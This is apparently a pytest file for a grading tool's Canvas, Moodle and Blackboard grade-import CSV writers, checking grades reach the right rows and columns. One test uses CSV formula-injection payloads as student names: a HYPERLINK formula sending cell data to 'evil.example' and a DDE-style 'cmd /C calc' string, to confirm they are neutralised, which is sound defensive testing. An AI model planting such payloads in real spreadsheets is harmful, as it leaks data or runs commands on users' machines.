"""Are grades written in the layouts the Canvas, Moodle and Blackboard gradebook imports take, each on its own student's row
and in the assignment's own column, with nothing a spreadsheet would run as a formula?"""
from __future__ import annotations

import csv
import io
import re

import pytest

from support import lms_exports
from grader.lms.grade_sheets import Grade, NoSuchColumn, blackboard_csv, canvas_csv, moodle_csv
from grader.lms.roster import Roster

pytestmark = pytest.mark.unit

GRADES = [Grade("2026001", "王, 小明", 17.5, 20.0), Grade("2026004", "Chen, Jing", None, 20.0),
          Grade("2026777", "Not, Enrolled", 20.0, 20.0)]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_moodle_worksheet_comes_back_with_grades_on_the_participants_rows(tmp_path):
    """Does each worksheet row keep its Identifier and columns, with Grade filled for the student it maps to,
    and is a student the worksheet lacks returned apart rather than written?"""
    roster = Roster.read(lms_exports.write_csv(tmp_path / "worksheet.csv", lms_exports.MOODLE_WORKSHEET))
    text, unplaced = moodle_csv(GRADES, roster)
    written = rows(text)
    assert list(written[0]) == lms_exports.MOODLE_WORKSHEET[0]
    assert [(r["Identifier"], r["Grade"]) for r in written] == [("Participant 1001", "17.5"), ("Participant 1004", "")]
    assert unplaced == ["2026777"]


def test_canvas_import_uses_the_roster_columns_and_the_assignment_column(tmp_path):
    """Is the score written under the export's own `attention (777)` column, on the row with the student's Canvas ID?"""
    roster = Roster.read(lms_exports.write_csv(tmp_path / "canvas.csv", [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "attention (777)", "quiz (778)"],
        ["    Points Possible", "", "", "", "", "20.00", "5.00"],
        ["Wang, Xiaoming", "1001", "2026001", "wxm", "LLM 101", "", "4"],
        ["Chen, Jing", "1004", "2026004", "cj", "LLM 101", "", "5"]]))
    text, unplaced = canvas_csv(GRADES, "attention", roster)
    written = rows(text)
    assert [(r["ID"], r["attention (777)"]) for r in written] == [("1001", "17.5"), ("1004", "")]
    assert unplaced == ["2026777"]


def test_without_roster_the_lms_ids_are_the_student_ids():
    """Without a roster, is the student id (the LMS's own id, as the collector made it) the row's key?"""
    canvas = rows(canvas_csv([Grade("1001", "Wang, Xiaoming", 3.0, 20.0)], "attention")[0])
    assert (canvas[0]["ID"], canvas[0]["Student"], canvas[0]["attention"]) == ("1001", "Wang, Xiaoming", "3")
    moodle = rows(moodle_csv([Grade("1001", "王, 小明", 3.0, 20.0)])[0])
    assert (moodle[0]["Identifier"], moodle[0]["Grade"], moodle[0]["Maximum Grade"]) == ("Participant 1001", "3", "20")


# How each LMS reads an import back, as its documentation describes it (the tests read the CSV the same way):
# Canvas matches a row by `ID` and a grade column by the assignment id in brackets at the end of its header; a header
# without one creates a new assignment. Moodle's worksheet upload matches `Identifier` (`Participant <id>`) and reads
# `Grade`. Blackboard's Grade Centre upload matches `Username` and updates the column whose id follows `|`.
CANVAS_ID_IN_HEADER = re.compile(r"\((\d+)\)\s*$")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def canvas_import(text: str) -> tuple[dict[str, dict[str, str]], list[str]]:
    """(Canvas user id -> {assignment id: grade}, the headers Canvas would make new assignments of)."""
    table = rows(text)
    known = [*lms_exports.CANVAS_EXPORT_IDENTITY, "Notes"]
    new = [name for name in table[0] if name not in known and not CANVAS_ID_IN_HEADER.search(name)]
    grades = {row["ID"]: {CANVAS_ID_IN_HEADER.search(name)[1]: value for name, value in row.items()
                          if CANVAS_ID_IN_HEADER.search(name)} for row in table}
    return grades, new


def canvas_roster(tmp_path, student_name: str = "Wang, Xiaoming") -> Roster:
    return Roster.read(lms_exports.write_csv(tmp_path / "canvas.csv", [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Attention (2291)", "Quiz 1 (2292)"],
        ["    Points Possible", "", "", "", "", "20.00", "5.00"],
        [student_name, "1001", "2026001", "wxm", "LLM 101", "", "4"],
        ["Chen, Jing", "1004", "2026004", "cj", "LLM 101", "", "5"]]))


def test_canvas_grades_land_in_the_assignments_column_whatever_its_case_and_id(tmp_path):
    """nbgrader's assignment `attention` against Canvas's `Attention (2291)`: does every grade land in column 2291,
    with no new column Canvas would import as a new assignment, and the other assignment's grades unchanged?"""
    grades, new = canvas_import(canvas_csv(GRADES, "attention", canvas_roster(tmp_path))[0])
    assert new == []
    assert grades == {"1001": {"2291": "17.5", "2292": "4"}, "1004": {"2291": "", "2292": "5"}}


def test_no_matching_column_is_refused_with_the_rosters_columns_listed(tmp_path):
    """An assignment the Canvas export has no column for: is the export refused, naming the columns it has, rather
    than a new column added?"""
    with pytest.raises(NoSuchColumn, match=r"no column.*'Attention \(2291\)', 'Quiz 1 \(2292\)'"):
        canvas_csv(GRADES, "attention-v2", canvas_roster(tmp_path))


def test_a_formula_like_name_is_neutralised_and_the_import_still_matches(tmp_path):
    """A student named like a spreadsheet formula: is the cell written as text (`'=…`), while Canvas, Moodle and
    Blackboard still find the row by its key and read the grade?"""
    canvas_text = canvas_csv(GRADES, "attention", canvas_roster(tmp_path, FORMULA))[0]
    assert rows(canvas_text)[0]["Student"] == "'" + FORMULA
    assert canvas_import(canvas_text)[0]["1001"]["2291"] == "17.5"
    worksheet = [row[:] for row in lms_exports.MOODLE_WORKSHEET]
    worksheet[1][1] = "@SUM(1+1)*cmd|' /C calc'!A0"
    moodle_text = moodle_csv(GRADES, Roster.read(lms_exports.write_csv(tmp_path / "w.csv", worksheet)))[0]
    moodle_rows = {row["Identifier"]: row for row in rows(moodle_text)}
    assert moodle_rows["Participant 1001"]["Full name"].startswith("'@")
    assert moodle_rows["Participant 1001"]["Grade"] == "17.5"
    blackboard_text = blackboard_csv([Grade("li_na", "-2+3, +cmd", 20.0, 20.0)], "Attention [Total Pts: 20 Score] |4401")[0]
    written = rows(blackboard_text)[0]
    assert (written["Last Name"], written["First Name"]) == ("'-2+3", "'+cmd")
    assert (written["Username"], written["Attention [Total Pts: 20 Score] |4401"]) == ("li_na", "20")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for text in (canvas_text, moodle_text, blackboard_text)
                   for row in csv.reader(io.StringIO(text)) for cell in row)


def blackboard_import(text: str) -> dict[str, dict[str, str]]:
    """Username -> {column id: grade}, as the Grade Centre upload reads a file."""
    return {row["Username"]: {name.rsplit("|", 1)[1].strip(): value for name, value in row.items() if "|" in name}
            for row in rows(text)}


def test_blackboard_grade_centre_upload_fills_the_assignments_column(tmp_path):
    """With the Grade Centre's download as the roster (`Student ID` filled for one student, empty for the other),
    does each grade land under the `Attention … |4401` column id, on the right username, and a student without a
    column for the assignment get a refusal listing the columns?"""
    roster = Roster.read(lms_exports.write_csv(tmp_path / "gc.csv", [
        ["Last Name", "First Name", "Username", "Student ID", "Last Access", "Availability",
         "attention [Total Pts: 20 Score] |4401", "Quiz [Total Pts: 5 Score] |4402"],
        ["Li", "Na", "li_na", "2026001", "2026-11-30", "Available", "", "3"],
        ["Wang", "Na", "wang_na", "", "2026-11-30", "Available", "", "4"]]))
    grades = [Grade("2026001", "Li, Na", 18.0, 20.0), Grade("wang_na", "Wang, Na", 20.0, 20.0)]
    text, unplaced = blackboard_csv(grades, "Attention", roster)
    assert unplaced == []
    assert blackboard_import(text) == {"li_na": {"4401": "18"}, "wang_na": {"4401": "20"}}
    with pytest.raises(NoSuchColumn, match=r"Quiz \[Total Pts: 5 Score\] \|4402"):
        blackboard_csv(grades, "Attention 2", roster)
    with pytest.raises(NoSuchColumn, match="column id|id after"):
        blackboard_csv(grades, "Attention")
